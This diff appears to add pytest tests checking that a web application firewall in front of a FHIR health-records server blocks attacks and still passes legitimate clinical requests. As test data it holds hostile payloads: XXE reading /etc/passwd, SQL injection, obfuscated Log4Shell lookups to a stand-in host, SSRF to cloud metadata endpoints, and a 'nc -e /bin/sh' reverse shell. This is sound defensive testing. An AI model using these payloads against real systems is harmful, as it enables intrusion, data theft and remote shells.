@@ -184,3 +184,336 @@ def test_injection_in_scope_refused(origin, ca_cert) -> None:
         r = _token_post(origin, ca_cert, scope)
         assert r.status_code in (400, 403), f"{scope!r}: {r.status_code}"
         assert r.json().get("resourceType") == "OperationOutcome", f"{scope!r}: not refused by the edge"
+
+
+# ---------------------------------------------------------------------------------------------------------
+# Kit rules 10030-10190 (fhir-before-crs.conf) and the free-text / narrative exclusions (fhir-after-crs.conf):
+# for each, attacks that must be refused by the edge and legitimate FHIR requests that must pass it.
+
+FX = {"Content-Type": "application/fhir+xml"}
+
+
+def _edge_refused(r) -> bool:
+    """The edge's own refusal (its OperationOutcome carries '; request id <hex>'), not HAPI's."""
+    return r.status_code in (400, 403) and "request id" in r.text
+
+
+def _passes(r, ok: tuple[int, ...] = (200, 201)) -> None:
+    assert not _edge_refused(r), f"refused by the edge: {r.status_code}: {r.text[:200]}"
+    assert r.status_code in ok, f"{r.status_code}: {r.text[:300]}"
+
+
+def _observation(value: str, note: str | None = None) -> dict:
+    obs: dict = {
+        "resourceType": "Observation",
+        "status": "final",
+        "code": {"coding": [{"system": "http://loinc.org", "code": "8302-2"}], "text": "Body height"},
+        "valueString": value,
+    }
+    if note is not None:
+        obs["note"] = [{"text": note}]
+    return obs
+
+
+def _create_and_delete(fhir, resource: dict, headers: dict | None = None) -> None:
+    r = fhir.request("POST", resource["resourceType"], json=resource, headers=headers or FJ)
+    _passes(r, (201,))
+    fhir.request("DELETE", f"{resource['resourceType']}/{r.json()['id']}")
+
+
+XML_PATIENT = (
+    '<Patient xmlns="http://hl7.org/fhir"><meta><tag><system value="https://fhirfort.test/tags"/>'
+    '<code value="waf-test"/></tag></meta><text><status value="generated"/>'
+    '<div xmlns="http://www.w3.org/1999/xhtml"><p>Pat Link</p>{extra}</div></text>'
+    '<name><family value="Link"/><given value="Pat"/></name>'
+    '<link><other><reference value="Patient/example"/></other><type value="seealso"/></link></Patient>'
+)
+
+
+# WAF-08 (10120): FHIR's own meta, link and form elements pass; the same names as XHTML markup do not
+def test_xml_fhir_elements_named_like_html_pass(fhir) -> None:
+    r = fhir.request("POST", "Patient", data=XML_PATIENT.format(extra="").encode(), headers=FX)
+    assert not _edge_refused(r), r.text[:200]
+    med = (
+        '<Medication xmlns="http://hl7.org/fhir"><code><text value="Amoxicillin 500 mg"/></code>'
+        '<form><text value="capsule"/></form></Medication>'
+    )
+    assert not _edge_refused(fhir.request("POST", "Medication", data=med.encode(), headers=FX))
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        '<form action="https://198.51.100.7/x"><input type="password" name="pw"/></form>',
+        '<link rel="stylesheet" href="https://198.51.100.7/x.css"/>',
+        '<meta http-equiv="refresh" content="0;url=https://198.51.100.7/"/>',
+        '<p onclick="alert(1)">x</p>',
+    ],
+)
+def test_xml_html_markup_refused(fhir, extra: str) -> None:
+    _refused(fhir.request("POST", "Patient", data=XML_PATIENT.format(extra=extra).encode(), headers=FX))
+
+
+# WAF-12 (10121): DTDs, entities and XInclude in XML bodies
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<?xml version="1.0"?><!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+        '<Patient xmlns="http://hl7.org/fhir"><name><family value="&xxe;"/></name></Patient>',
+        '<?xml version="1.0"?><!DOCTYPE Patient SYSTEM "http://198.51.100.7/evil.dtd">'
+        '<Patient xmlns="http://hl7.org/fhir"><name><family value="x"/></name></Patient>',
+        '<Patient xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude"><name><family value="x"/>'
+        '</name><xi:include parse="text" href="file:///etc/passwd"/></Patient>',
+    ],
+)
+def test_xxe_refused(fhir, body: str) -> None:
+    _refused(fhir.request("POST", "Patient", data=body.encode(), headers=FX))
+    _refused(fhir.request("POST", "Patient", data=body.encode(), headers={"Content-Type": "application/xml"}))
+
+
+# WAF-07 (941160 / 932130 removed for narratives): img of a contained attachment, style attributes and
+# "</b> (preferred)" pass; CSS script URLs and expressions are still refused by 10110
+def test_narrative_img_style_and_parenthesis_pass(fhir) -> None:
+    div = (
+        '<div xmlns="http://www.w3.org/1999/xhtml"><p><span style="font-weight:bold">Sean O\'Brien</span>'
+        ' (preferred)</p><img src="#photo-1" alt="patient photo"/></div>'
+    )
+    _create_and_delete(fhir, _patient(div=div))
+
+
+@pytest.mark.parametrize(
+    "div",
+    [
+        '<div xmlns="http://www.w3.org/1999/xhtml"><p style="background:url(javascript:alert(1))">x</p></div>',
+        '<div xmlns="http://www.w3.org/1999/xhtml"><p style="width:expression(alert(1))">x</p></div>',
+        '<div xmlns="http://www.w3.org/1999/xhtml"><img src="#x" onerror="alert(1)"/></div>',
+    ],
+)
+def test_narrative_style_script_refused(fhir, div: str) -> None:
+    _refused(fhir.request("POST", "Patient", json=_patient(div=div), headers=FJ))
+
+
+# WAF-16: clinical prose in valueString / note.text passes (942100/942350/932115 removed there) ...
+CLINICAL = [
+    "BP > 140/90 on 2 readings; select follow-up in 2 weeks",
+    "Insert order: PICC line; delete old peripheral IV",
+    "HbA1c 7.2% (was 8.1%); metformin 1 g bd continues",
+    "Drop-in visit; union rep present at patient's request; cost US$ 40 {copay}",
+    "Plan: ECG; echo booked; cat scan if worse | follow up",
+]
+
+
+def test_clinical_free_text_passes(fhir) -> None:
+    for text in CLINICAL:
+        _create_and_delete(fhir, _observation(text, note=text))
+    bundle = {
+        "resourceType": "Bundle",
+        "type": "batch",
+        "entry": [
+            {"resource": _observation(t, note=t), "request": {"method": "POST", "url": "Observation"}} for t in CLINICAL
+        ],
+    }
+    r = fhir.request("POST", "", json=bundle, headers=FJ)
+    _passes(r, (200,))
+    for e in r.json().get("entry", []):
+        loc = e.get("response", {}).get("location", "")
+        if loc.startswith("Observation/"):
+            fhir.request("DELETE", "/".join(loc.split("/")[:2]))
+
+
+# ... while SQL syntax there, and in names, is refused (10130)
+@pytest.mark.parametrize(
+    "value",
+    [
+        "x'); DROP TABLE hfj_resource;--",
+        "'||(select version())||'",
+        "x' AND pg_sleep(10) IS NULL--",
+        "x'; update hfj_resource set res_deleted_at=now()--",
+        "a' UNION SELECT password FROM users--",
+        "1' or '1'='1",
+    ],
+)
+def test_sql_in_free_text_refused(fhir, value: str) -> None:
+    _refused(fhir.request("POST", "Observation", json=_observation("ok", note=value), headers=FJ))
+    _refused(fhir.request("POST", "Observation", json=_observation(value), headers=FJ))
+
+
+def test_sql_tautology_in_name_refused(fhir) -> None:
+    _refused(fhir.request("POST", "Patient", json=_patient(family="O'Brien' OR '1'='1"), headers=FJ))
+
+
+# WAF-13 (10140/10142): Log4Shell lookups in headers, parameters and bodies, obfuscated or not
+@pytest.mark.parametrize(
+    "header",
+    [
+        ("User-Agent", "${env:AWS_SECRET_ACCESS_KEY}"),
+        ("X-Api-Version", "${jndi:ldaps://198.51.100.7/${sys:java.version}}"),
+        ("Referer", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/a}"),
+        ("X-Forwarded-For", "${jndi:ldap://198.51.100.7:1389/a}"),
+    ],
+)
+def test_log4shell_in_headers_refused(fhir, header: tuple[str, str]) -> None:
+    _refused(fhir.request("GET", "metadata", headers=dict([header])))
+
+
+def test_log4shell_in_values_refused(fhir) -> None:
+    _refused(fhir.request("GET", "Patient", params={"given": "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"}))
+    _refused(fhir.request("GET", "Patient", params={"name": "${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}"}))
+    _refused(fhir.request("POST", "Observation", json=_observation("${jndi:dns://198.51.100.7/a}"), headers=FJ))
+
+
+# WAF-13 (10150): template expressions; a dollar sign and braces in ordinary text pass (test above, CLINICAL)
+@pytest.mark.parametrize("value", ["{{7*7}}", "#{7*7}", "<%= 7*7 %>", "*{T(java.lang.Runtime).getRuntime()}"])
+def test_ssti_refused(fhir, value: str) -> None:
+    _refused(fhir.request("GET", "Patient", params={"name": value}))
+    _refused(fhir.request("POST", "Patient", json=_patient(family=value), headers=FJ))
+
+
+def test_address_with_hash_and_ordinary_search_pass(fhir) -> None:
+    p = _patient()
+    p["address"] = [{"line": ["21 O'Connell St. Apt #3 {rear}"], "city": "Dún Laoghaire"}]
+    _create_and_delete(fhir, p)
+
+
+# WAF-14 (10170/10171): NoSQL operators as names or JSON keys; FHIR operations ($everything, $validate) pass
+def test_nosql_operators_refused(fhir) -> None:
+    _refused(fhir.request("GET", "Patient?name[$regex]=.*"))
+    _refused(fhir.request("GET", "Patient", params={"name[$ne]": "x"}))
+    bad = {"resourceType": "Patient", "name": [{"family": {"$ne": None}}]}
+    _refused(fhir.request("POST", "Patient", json=bad, headers=FJ))
+    empty = {"resourceType": "Patient", "name": [{"family": "x", "$or": [{}]}]}  # no ARGS leaf: raw body (10172)
+    _refused(fhir.request("POST", "Patient", json=empty, headers=FJ))
+    _refused(fhir.request("GET", "Patient", params={"name": "';return true;var x='"}))
+
+
+def test_fhir_operations_pass(fhir) -> None:
+    r = fhir.request("GET", "Patient", params={"_count": "1"})
+    _passes(r, (200,))
+    ids = [e["resource"]["id"] for e in r.json().get("entry", [])]
+    if ids:
+        # HAPI's own authorisation decides on $everything; the edge must simply let the operation through
+        r = fhir.request("GET", f"Patient/{ids[0]}/$everything", params={"_count": "5"})
+        assert not _edge_refused(r), r.text[:200]
+    params = {"resourceType": "Parameters", "parameter": [{"name": "resource", "resource": _patient()}]}
+    r = fhir.request("POST", "Patient/$validate", json=params, headers=FJ)
+    assert not _edge_refused(r), r.text[:200]
+
+
+# WAF-11 (10040/10041): only FHIR formats; HTML renderings are refused
+@pytest.mark.parametrize("fmt", ["html", "text/html", "application/x-php", "image/svg+xml", "../../../etc/passwd"])
+def test_non_fhir_format_refused(fhir, fmt: str) -> None:
+    _refused(fhir.request("GET", "Patient", params={"_format": fmt, "_count": "1"}))
+
+
+def test_fhir_formats_pass(fhir) -> None:
+    for fmt in ("json", "xml", "application/fhir+json", "application/fhir+xml", "application/json"):
+        _passes(fhir.request("GET", "Patient", params={"_format": fmt, "_count": "1"}), (200,))
+    _passes(fhir.request("GET", "metadata?_format=application/fhir+json"), (200,))  # "+" arrives as a space
+    _passes(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": "application/fhir+xml"}), (200,))
+    _passes(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": "*/*"}), (200,))
+
+
+def test_html_accept_refused(fhir) -> None:
+    _refused(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": "text/html"}))
+    accept = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"  # a browser
+    _refused(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": accept}))
+
+
+# WAF-10 (10030/10031): method overrides; the real verbs pass (test_clinical_free_text_passes deletes)
+def test_method_override_refused(fhir) -> None:
+    for name in ("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"):
+        _refused(fhir.request("GET", "Patient", params={"_count": "1"}, headers={name: "DELETE"}))
+    _refused(fhir.request("GET", "Patient", params={"_count": "1", "_method": "DELETE"}))
+
+
+# WAF-15 (10160/10161): internal hosts and non-HTTP schemes in references and search values; an absolute
+# reference to an external FHIR server and code systems pass the edge
+@pytest.mark.parametrize(
+    "value",
+    [
+        "http://[::1]:5432/",
+        "http://0x7f000001/",
+        "http://2130706433/admin",
+        "http://169.254.169.254/latest/meta-data/",
+        "http://metadata.google.internal/computeMetadata/v1/",
+        "gopher://127.0.0.1:25/_HELO",
+        "dict://127.0.0.1:11211/stats",
+        "file:///etc/passwd",
+        "ldap://198.51.100.7/a",
+    ],
+)
+def test_ssrf_values_refused(fhir, value: str) -> None:
+    _refused(fhir.request("GET", "Observation", params={"subject": value}))
+    obs = _observation("x")
+    obs["subject"] = {"reference": value.rstrip("/") + "/Patient/1"}
+    _refused(fhir.request("POST", "Observation", json=obs, headers=FJ))
+
+
+def test_ssrf_in_include_and_xml_refused(fhir) -> None:
+    _refused(fhir.request("GET", "Observation", params={"_include": "Observation:subject:http://198.18.30.10:5432/"}))
+    xml = (
+        '<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="x"/></code>'
+        '<subject><reference value="http://169.254.169.254/latest/Patient/1"/></subject></Observation>'
+    )
+    _refused(fhir.request("POST", "Observation", data=xml.encode(), headers=FX))
+
+
+def test_external_references_pass(fhir) -> None:
+    r = fhir.request("GET", "Observation", params={"subject": "https://fhir.example.org/fhir/Patient/123"})
+    assert not _edge_refused(r), r.text[:200]
+    _passes(fhir.request("GET", "Observation", params={"code": "http://loinc.org|8480-6", "_count": "1"}), (200,))
+
+
+# WAF-17 (10180/10190/10060/10070/10050): single-shot classes
+def test_command_injection_singles_refused(fhir) -> None:
+    _refused(fhir.request("GET", "Patient", params={"family": "| id"}))
+    _refused(fhir.request("GET", "Observation", params={"code": "`id`"}))
+    _refused(fhir.request("POST", "Observation", json=_observation("| id"), headers=FJ))
+    for value in ("x; nc -e /bin/sh 198.51.100.7 4444", "x && wget example.org/x.sh", "x; sleep 10 #"):
+        _refused(fhir.request("POST", "Observation", json=_observation(value), headers=FJ))
+
+
+def test_token_search_with_pipe_passes(fhir) -> None:
+    for code in ("|8480-6", "http://loinc.org|8480-6", "urn:ietf:bcp:47|id"):
+        _passes(fhir.request("GET", "Observation", params={"code": code, "_count": "1"}), (200,))
+
+
+def test_ldap_filter_refused(fhir) -> None:
+    _refused(fhir.request("GET", "Encounter", params={"patient": "*()|&'"}))
+    _refused(fhir.request("GET", "Patient", params={"name": "*)(uid=*))(|(uid=*"}))
+
+
+def test_dot_dot_slash_slash_refused(fhir, origin: str) -> None:
+    r = fhir.session.get(f"{origin}/fhir/Patient/....//....//....//etc/passwd", timeout=30)
+    assert r.status_code in (400, 403, 404) and "request id" in r.text, r.text[:200]
+
+
+def test_commercial_scanner_refused(fhir) -> None:
+    _refused(
+        fhir.request(
+            "GET", "metadata", headers={"User-Agent": "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)"}
+        )
+    )
+    _passes(
+        fhir.request("GET", "metadata", headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) fhir-client/1.0"}),
+        (200,),
+    )
+
+
+# WAF-13 (10150): SDC x-fhir-query (Expression.expression) embeds FHIRPath in double braces and passes; the same
+# braces in any other field do not (test_ssti_refused)
+def test_sdc_x_fhir_query_expression_passes(fhir) -> None:
+    questionnaire = {
+        "resourceType": "Questionnaire",
+        "status": "draft",
+        "extension": [
+            {
+                "url": "http://hl7.org/fhir/uv/sdc/StructureDefinition/sdc-questionnaire-itemPopulationContext",
+                "valueExpression": {
+                    "language": "application/x-fhir-query",
+                    "expression": "Observation?subject={{%patient.id}}&code=http://loinc.org|8302-2",
+                },
+            }
+        ],
+    }
+    _create_and_delete(fhir, questionnaire)
